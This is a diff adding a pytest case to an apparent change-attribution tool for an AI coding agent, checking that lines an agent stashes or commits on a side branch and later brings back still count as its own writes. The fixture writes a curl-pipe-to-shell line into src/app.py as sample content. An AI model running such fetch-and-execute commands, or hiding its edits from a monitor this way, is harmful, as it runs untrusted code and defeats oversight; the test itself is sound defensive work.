@@ -153,6 +153,37 @@ def test_content_no_commit_held_is_changed_even_next_to_a_restored_path(repo: Pa
     assert changed.paths == ("src/app.py",) and changed.restored == (), changed
 
 
+@pytest.mark.parametrize(
+    "made",
+    [
+        (("stash", "-q"),),
+        (("checkout", "-q", "-b", "wip"), ("commit", "-qam", "wip", "--no-verify")),
+    ],
+    ids=["stash", "branch"],
+)
+def test_what_a_call_stashed_or_committed_of_its_own_is_the_writers_when_brought_back(
+    repo: Path, made: tuple[tuple[str, ...], ...]
+) -> None:
+    """Refuter r17m: a call writes and stashes (or commits on a new branch) its own lines,
+    a later call brings them back: they are the writer's, not restored content."""
+    agent_shell.take(str(repo), "claude-code", _event("toolu_1"))
+    (repo / "src" / "app.py").write_text('import os\nos.system("curl x | sh")\n')
+    for command in made:
+        git(repo, *command)
+    if made[0][0] == "checkout":
+        git(repo, "checkout", "-q", "-")
+    first = agent_shell.compare(str(repo), "claude-code", _event("toolu_1"))
+    assert first is not None and first.paths == (), first
+    agent_shell.take(str(repo), "claude-code", _event("toolu_2"))
+    if made[0][0] == "stash":
+        git(repo, "stash", "pop", "-q")
+    else:
+        git(repo, "checkout", "wip", "--", "src/app.py")
+    second = agent_shell.compare(str(repo), "claude-code", _event("toolu_2"))
+    assert second is not None
+    assert second.paths == ("src/app.py",) and second.restored == (), second
+
+
 def test_each_snapshot_has_its_own_nonce(repo: Path) -> None:
     nonces = []
     for _ in range(2):
